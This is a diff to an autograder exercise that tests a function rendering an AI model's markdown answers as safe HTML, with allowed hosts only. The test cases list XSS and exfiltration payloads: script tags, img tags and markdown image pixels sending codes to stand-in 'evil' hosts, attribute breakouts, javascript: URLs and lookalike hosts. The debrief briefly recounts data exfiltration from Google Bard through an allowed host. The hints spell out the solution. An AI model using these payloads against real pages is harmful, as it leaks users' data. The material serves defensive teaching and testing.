@@ -1,45 +1,203 @@
 """The check of `injection.render`."""
 
-from autograder.exercise import exercise
+from __future__ import annotations
+
+import html
+import re
+from html.parser import HTMLParser
+from typing import Any
+
+import numpy as np
+
+from autograder.exercise import Trial, brief, exercise
+
+ALLOWED = ("https://clinic.example/", "https://help.clinic.example/")
+MARK = re.compile(
+    r"!\[(?P<alt>[^\]]*)\]\((?P<image>[^)\s]*)\)"
+    r"|\[(?P<words>[^\]]*)\]\((?P<url>[^)\s]*)\)"
+    r"|\*\*(?P<bold>[^*]+)\*\*"
+)
 
 
-# TODO: the parts, hints and debrief of your exercise, and the check itself
 @exercise(
-    minutes=5,
+    minutes=10,
     parts={
-        "share": (3, "returns the share of the values that are above the limit"),
-        "none": (1, "raises ValueError when there are no values"),
-        "inputs": (1, "leaves its input as it was"),
+        "honest": (3, "shows honest answers: bold, allowed links and plain text with any signs"),
+        "encodes": (3, "shows HTML as text, inside bold and links, too"),
+        "links": (4, "takes the address off every link that isn't allowed, and keeps the words"),
+        "images": (2, "shows no image, and keeps its words"),
     },
     hints=(
-        "Which of the values count?",
-        "Count those above the limit, and divide by how many values there are.",
-        "no values: ValueError; else (number of values > limit) / (number of values)",
+        "An address must begin with a prefix of ALLOWED. And which parts of the answer reach the page "
+        "without "
+        "html.escape in your code?",
+        "MARK.sub(shown, answer) calls shown with each match and puts its result there, but what lies "
+        "between "
+        "the matches stays as it was. So walk over MARK.finditer(answer), and escape what lies between. Or "
+        "escape the whole answer first: the marks survive that.",
+        "def shown(match):\n"
+        "    alt is not None: alt + ' [image removed]'\n"
+        "    bold is not None: <strong>bold</strong>\n"
+        '    url begins with one of ALLOWED: <a href="url">words</a>\n'
+        "    else: words + ' [link removed]'\n"
+        "return MARK.sub(shown, html.escape(answer))",
     ),
     debrief=(
-        "An attacker stays right at the limit.",
-        "A defender says whether the limit itself counts.",
+        "Looks for an allowed host where anybody may put a page or a redirect. In November 2023 "
+        "researchers got "
+        "data out of Google Bard that way: its rules allowed hosts owned by Google, and one of them ran "
+        "their "
+        "script (AML.CS0029).",
+        "Takes every address for hostile until the list says otherwise, keeps that list short, and lets "
+        "no host "
+        "on it that forwards or that strangers can write to. The cost: honest links elsewhere aren't "
+        "clickable.",
     ),
+    standards=("LLM10", "AML.T0077", "AML.M0033"),
 )
-def render(t, render):
-    for rng in t.cases(5):
-        limit = int(rng.integers(3, 8))
-        values = [limit, *rng.integers(0, 11, 40).tolist()]  # the limit itself is always among them
-        t.given(n=len(values), limit=limit)
-        got, after = t.observe(render, values, limit)
-        above = sum(value > limit for value in values)
-        at_least = sum(value >= limit for value in values)
-        with t.part("share"):
-            t.close(
-                t.number(got, "the share"),
-                above / len(values),
-                "the share",
-                slips={
-                    "You counted; a share is divided by how many values there are.": above,
-                    "A value that equals the limit is not above it.": at_least / len(values),
-                },
-            )
-        with t.part("inputs"):
-            t.expect(after[0] == values, "Your function changed the list that it was given.")
-    with t.part("none"), t.raises(ValueError, "an empty list"):
-        render([], 5)
+def render(t: Trial, render) -> None:
+    for rng in t.cases(2):
+        for part, answers in _answers(rng).items():
+            with t.part(part):
+                for answer in answers:
+                    _expect_shown(t, render, answer)
+
+
+def _expect_shown(t: Trial, render: Any, answer: str) -> None:
+    got = render(answer)
+    t.expect(isinstance(got, str), "The result should be a text.", got=brief(got))
+    want = _rendered(answer)
+    slips: dict[str, list] = {}
+    for slip, other in _wrong(answer).items():
+        if _seen(other) not in (_seen(want), *slips.values()):
+            slips[slip] = _seen(other)
+    t.equal(_seen(got), _seen(want), f"what a browser makes of render({answer!r})", slips=slips)
+
+
+def _rendered(answer: str, allowed: Any = None, escape: Any = html.escape) -> str:
+    parts, end = [], 0
+    ok = allowed or (lambda url: url.startswith(ALLOWED))
+    for match in MARK.finditer(answer):
+        parts.append(html.escape(answer[end : match.start()]))
+        end = match.end()
+        if match["alt"] is not None:
+            parts.append(f"{escape(match['alt'])} [image removed]")
+        elif match["bold"] is not None:
+            parts.append(f"<strong>{escape(match['bold'])}</strong>")
+        elif ok(match["url"]):
+            parts.append(f'<a href="{escape(match["url"])}">{escape(match["words"])}</a>')
+        else:
+            parts.append(f"{escape(match['words'])} [link removed]")
+    return "".join([*parts, html.escape(answer[end:])])
+
+
+def _wrong(answer: str) -> dict[str, str]:
+    """What likely misconceptions would show."""
+    return {
+        "An address that only contains an allowed one isn't allowed: use startswith.": _rendered(
+            answer, lambda url: any(each in url for each in ALLOWED)
+        ),
+        "Compare with the slash at the end: clinic.example.evil.example begins alike.": _rendered(
+            answer, lambda url: url.startswith(tuple(each.rstrip("/") for each in ALLOWED))
+        ),
+        "Words and addresses come from the answer as well: escape them, quotes too.": _rendered(
+            answer, escape=str
+        ),
+        "Beginning with https doesn't make it yours.": _rendered(
+            answer, lambda url: url.startswith("https://")
+        ),
+        "A second escape shows the reader &amp;lt; where a < should be.": html.escape(_rendered(answer)),
+    }
+
+
+class _Reader(HTMLParser):
+    """Tags with their attributes, and the text between them, as a browser would take them."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.seen: list[Any] = []
+
+    def handle_starttag(self, tag: str, attrs: list) -> None:
+        self.seen.append((f"<{tag}>", *attrs))
+
+    def handle_endtag(self, tag: str) -> None:
+        self.seen.append((f"</{tag}>",))
+
+    def handle_comment(self, data: str) -> None:
+        self.seen.append(("comment", data))
+
+    def handle_decl(self, decl: str) -> None:
+        self.seen.append(("declaration", decl))
+
+    def handle_data(self, data: str) -> None:
+        if self.seen and isinstance(self.seen[-1], str):
+            self.seen[-1] += data
+        else:
+            self.seen.append(data)
+
+
+def _seen(page: str) -> list[Any]:
+    reader = _Reader()
+    reader.feed(page)
+    reader.close()
+    return reader.seen
+
+
+def _answers(rng: np.random.Generator) -> dict[str, list[str]]:
+    case, code = rng.integers(100, 1000), f"{rng.integers(1000, 9999)}-{rng.integers(10, 99)}"
+    clinic, advice = ALLOWED
+    evil = f"https://{rng.choice(('evil', 'collect', 'sign-in'))}{rng.integers(100)}.example"
+    honest = [
+        "",
+        f"Case {case} is **urgent**.",
+        f"**Case {case}**: [open it]({clinic}cases/{case}?tab=notes&full=1#top), or **ask the lab**.",
+        f"See [help]({advice}triage) and [home]({clinic}).",
+        f'Dose < {case} mg & pH > 7; "as before", it\'s fine. 3 * 4 ** 2 [not a link] (not an address)',
+        f"First line\n- second [line] ({clinic})\n{clinic} on its own",
+        "The tag &lt;b&gt; is written with &amp;lt;.",
+    ]
+    encodes = [
+        "<script>fetch(1)</script>",
+        f'<img src="{evil}/?c={code}">',
+        f"<a href='{evil}'>sign in</a> again",
+        "<b onclick=alert(1)>bold</b> <!-- hidden --> <!doctype html>",
+        f"**<img src={evil}>**",
+        f"[<img src={evil}>]({clinic})",
+        f"[<img src={evil}>]({evil})",
+        f"![<script>1</script>]({evil})",
+        f'[words]({clinic}"onmouseover="alert(1))',
+        f"[words]({clinic}'onmouseover='alert(1))",
+        f"[words]({clinic}><script>1</script>)",
+        "&lt;script&gt;1&lt;/script&gt;",
+    ]
+    links = [
+        f"Error. [click here to sign in again]({evil}/in?c={code})",
+        f"[one]({evil}) and [two]({clinic}two) and [three]({evil}/3)",
+        f"[words](https://clinic.example.{evil[8:]}/{code})",
+        f"[words](https://clinic.example@{evil[8:]}/{code})",
+        f"[words]({evil}/?next={clinic})",
+        f"[words]({evil}/#{advice})",
+        f"[words](//{evil[8:]}/{code})",
+        "[words](javascript:alert(1)",
+        "[words](javascript:alert`1`)",
+        "[words](data:text/html,hello)",
+        f"[words](http://clinic.example/{code})",
+        f"[words](https://other.clinic.example/{code})",
+        "[words](https://clinic.example)",
+        f"[words](https://clinic.example:8443/{code})",
+        f"[words](HTTPS://clinic.example/{code})",
+        f"[words](https:/clinic.example/{code})",
+        "[words](/cases)",
+        "[words]()",
+        f"[words](https://clinic.example\\@{evil[8:]}/{code})",
+        f"[]({evil}/{code})",
+    ]
+    images = [
+        f"![a chart]({evil}/pixel?c={code})",
+        f"![a chart]({clinic}chart)",
+        f"![]({evil}/{code})",
+        f"![one]({evil}/1)![two]({evil}/2) **three**",
+        f"[![words]({evil}/{code})]({clinic})",
+        f"Look!![one]({evil}/{code})",
+    ]
+    return {"honest": honest, "encodes": encodes, "links": links, "images": images}
